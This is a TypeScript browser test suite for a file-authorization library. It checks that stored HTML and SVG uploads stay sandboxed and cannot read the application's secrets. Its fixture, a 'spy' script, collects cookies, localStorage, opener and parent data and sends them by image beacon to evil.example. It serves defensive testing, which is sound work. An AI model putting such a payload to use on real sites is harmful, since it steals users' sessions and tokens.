import { rm } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { readClaims } from '../../src/shared/tokens/usable-token.js';
import { htmlPage } from '../support/app-server.js';
import { permutations } from '../support/each-engine.js';
import { eachMode, kindsOfTokens } from '../support/each-mode.js';
import { expectAll } from '../support/expect-all.js';
import { eachWorld } from '../support/each-world.js';
import type { ClickOptions, TestPage } from '../support/engines/index.js';
import { blue, fileId, filePath, pdfColour, trap } from '../support/test-files.js';
import { cdn, fileUrl } from '../support/world.js';

/** Besides what the trap does, tells a stranger whatever can be read. */
const spy = `${trap}
  const read = (what) => { try { return String(what()); } catch (error) { return error.name; } };
  const found = [
    () => location.href,
    () => document.cookie,
    () => localStorage.getItem('secret'),
    () => parent.document.cookie,
    () => parent.location.href,
    () => opener.document.cookie,
    () => opener.location.href,
    () => document.referrer,
  ].map(read);
  new Image().src = 'https://evil.example/home?' + encodeURIComponent(found.join(' | '));
`;
const stored = {
  '.html': `<!doctype html><title>Stored</title><p>Stored</p><script>${spy}</script>`,
  '.svg': `<svg xmlns="http://www.w3.org/2000/svg"><title>Stored</title><script><![CDATA[${spy}]]></script></svg>`,
} as const;
const extensions = ['.html', '.svg'] as const;

/** How somebody comes to open a file in a tab of its own. */
const ways = ['a link', 'the middle button', 'openFile()'] as const;

const routes = {
  '/own.html': htmlPage(`<script>${spy}</script>`),
  '/owned': { body: 'owned' },
};

eachWorld({ routes }, (world) => {
  /** What strangers were told, as it was before it became a query. */
  const told = (): string[] =>
    world.world.foreignRequests.map((url) => decodeURIComponent(url.replaceAll('+', ' ')));
  const hideSecrets = async (page: TestPage): Promise<void> => {
    await page.evaluate(() => {
      document.cookie = 'secret=of-the-application';
      localStorage.setItem('secret', 'of-the-application');
    });
  };
  const expectNothingOwned = async (page: TestPage): Promise<void> => {
    expect(told().join()).not.toContain('of-the-application');
    expect(world.world.app.requests.filter(({ url }) => url.startsWith('/owned'))).toEqual([]);
    expect(await page.evaluate(() => [localStorage.getItem('owned'), document.cookie])).toEqual([
      null,
      'secret=of-the-application',
    ]);
  };

  it("a page of the application's own can be read by its script, so that the next tests mean something", async () => {
    const { page } = world;
    await hideSecrets(page);
    await page.evaluate(() =>
      document.body.append(Object.assign(document.createElement('iframe'), { src: '/own.html' })),
    );
    await expect
      .poll(told)
      .toEqual([expect.stringMatching(/secret=of-the-application.* of-the-application .*secret=/)]);
    // A cookie belongs to the host, and so to the other tests' origins too.
    await page.evaluate(() => (document.cookie = 'owned=; max-age=0'));
  });

  // Without a virtual path a link goes where it goes in page mode.
  eachMode(world, { chromium: ['worker', 'page'], elsewhere: ['worker', 'page'] }, (context) => {
    const hasVirtualPath = context.mode === 'worker';

    describe.each(kindsOfTokens(context.mode))('with %s', (tokens) => {
      const begin = async (rest: keyof typeof stored): Promise<string> => {
        const { page, world: server } = context;
        server.replaceCloudFront({ files: { [filePath(blue, 391, rest)]: { body: stored[rest] } } });
        await context.start({}, tokens);
        await hideSecrets(page);
        return fileUrl(blue, 391, rest);
      };
      const isSaved = tokens === 'the account only' && context.mode !== 'worker';

      /** Without an address that may be shown, the file is saved. */
      const expectSaved = async (rest: keyof typeof stored, how: ClickOptions): Promise<void> => {
        await context.page.click('#opener', how);
        expect(await takeDownload(rest)).toBe(stored[rest]);
        expect(told()).toEqual([]);
      };
      const takeDownload = async (rest: keyof typeof stored): Promise<string> => {
        const { downloads } = context.world.browser;
        const name = `${fileId(391)}${rest}`;
        const file = await downloads.waitFor(name, stored[rest].length);
        await rm(join(downloads.folder, name));
        return file.toString();
      };
      const expectShown = async (rest: keyof typeof stored, how: ClickOptions): Promise<void> => {
        const tab = await context.page.clickToOpen('#opener', how);
        await tab.waitFor(() => document.querySelector('title')?.textContent === 'Stored');
        const shown = await tab.evaluate(() => [
          document.URL,
          window.origin,
          document.documentElement.getAttribute('data-owned'),
        ]);
        if (hasVirtualPath) expectSandboxed(rest, shown);
        else await expectOnItsOwnOrigin(shown);
        await tab.close();
      };
      const expectSandboxed = (rest: string, shown: readonly unknown[]): void => {
        expect(shown).toEqual([`${context.world.app.url}/_files${filePath(blue, 391, rest)}`, 'null', null]);
        expect(told()).toEqual([]);
      };
      // It runs where every file of the distribution would, with the token that opens itself.
      const expectOnItsOwnOrigin = async ([, ...shown]: readonly unknown[]): Promise<void> => {
        expect(shown).toEqual([cdn, 'yes']);
        await expect.poll(() => told().length).toBeGreaterThan(0);
        const found = told().flatMap((text) => Array.from(text.matchAll(/authorization=([\w.-]+)/g)));
        expect(found.length).toBeGreaterThan(0);
        for (const [, token] of found)
          expect(readClaims(token!)).toMatchObject({ files: [`/${blue}/${fileId(391)}`] });
      };

      // Where a file has an address of its own, a sandbox is what keeps it from running, and each type has its own.
      const tried = hasVirtualPath ? extensions : permutations(world.engine, extensions, ['.html']);

      describe.each(tried)('a stored %s file', (rest) => {
        it('a stored file never runs in the application however it is opened, and learns no token but its own', async () => {
          const { page, world: server } = context;
          const url = await begin(rest);
          const { middleClick } = server.browser.supports;
          await expectAll(
            ways.filter((way) => way !== 'the middle button' || middleClick),
            async (way) => {
              server.clearLogs();
              await page.evaluate(addOpener, way, url);
              const how = way === 'the middle button' ? ({ button: 'middle' } as const) : {};
              await (isSaved ? expectSaved(rest, how) : expectShown(rest, how));
              await expectNothingOwned(page);
            },
          );
        });

        it('a stored file that is downloaded is saved and not shown', async () => {
          const url = await begin(rest);
          const { page } = context;
          await page.evaluate((address) => window.fileAuth.downloadFile(address), url);
          expect(await takeDownload(rest)).toBe(stored[rest]);
          expect(told()).toEqual([]);
          await expectNothingOwned(page);
        });

        // virtualUrl() gives no other file an address.
        if (hasVirtualPath) {
          it('a stored file in a frame never runs, and tells nobody anything', async () => {
            const url = await begin(rest);
            const { page } = context;
            await page.evaluate((address) => {
              const src = window.fileAuth.virtualUrl(address)!;
              return new Promise((resolve) => {
                const frame = Object.assign(document.createElement('iframe'), { src, onload: resolve });
                document.body.append(frame);
              });
            }, url);
            const shown = await page.evaluateInFrame('iframe', () => [
              document.querySelector('title')?.textContent,
              window.origin,
              document.documentElement.getAttribute('data-owned'),
            ]);
            expect(shown).toEqual(['Stored', 'null', null]);
            expect(told()).toEqual([]);
            await expectNothingOwned(page);
          });
        }
      });
    });

    // The others are driven with their blockers of pop-ups off.
    if (world.engine === 'webkit') {
      it('openFile() says so when the browser takes the tab of a file for a pop-up', async () => {
        const { page } = context;
        await context.start();
        const outcome = await page.evaluate(
          (url) =>
            window.fileAuth.openFile(url).then(
              () => 'opened',
              ({ code }) => code as string,
            ),
          fileUrl(blue, 1),
        );
        expect(outcome).toBe('popup-blocked');
        expect(context.queriesFor(filePath(blue, 1))).toEqual([]);
      });
    }

    it('openFile() opens a tab that has no hold of the page, also where no click can be told of', async () => {
      await context.start();
      const { page } = context;
      await page.evaluate(addOpener, 'openFile()', fileUrl(blue, 1));
      await page.evaluate(() => Object.defineProperty(navigator, 'userActivation', { value: undefined }));
      const tab = await page.clickToOpen('#opener');
      await context.expectImage(1, { tab });
      expect(await tab.evaluate(() => [window.opener, history.length])).toEqual([null, 1]);
      await tab.close();
    });

    it('authorizeUrl() shows an image and a PDF in <object> and <embed>', async () => {
      await context.start();
      const { page } = context;
      await expectAll(['object', 'embed'], async (name) => {
        await page.evaluate(addViewer, name, fileUrl(blue, 1), 'image/png');
        await expect.poll(() => page.colourShare([0, 0, 255])).toBeGreaterThan(0.1);
        await page.evaluate(addViewer, name, fileUrl(blue, 372, '.pdf'), 'application/pdf');
        await expect.poll(() => page.colourShare(pdfColour)).toBeGreaterThan(0.1);
      });
    });
  });
});

/** Puts what opens the file into the page. */
function addOpener(way: string, url: string): void {
  const opener =
    way === 'openFile()'
      ? Object.assign(document.createElement('button'), { onclick: () => void window.fileAuth.openFile(url) })
      : Object.assign(document.createElement('a'), { href: url, target: '_blank' });
  document.querySelector('#opener')?.remove();
  document.body.append(Object.assign(opener, { id: 'opener', textContent: 'Open' }));
}

/** What fills the tab with a file that no worker is asked for. */
async function addViewer(name: string, url: string, type: string): Promise<void> {
  document.querySelector('object, embed')?.remove();
  const address = await window.fileAuth.authorizeUrl(url);
  const viewer = Object.assign(document.createElement(name), {
    type,
    [name === 'object' ? 'data' : 'src']: address,
  });
  Object.assign(viewer.style, { position: 'fixed', inset: '0', width: '100%', height: '100%' });
  document.body.append(viewer);
}
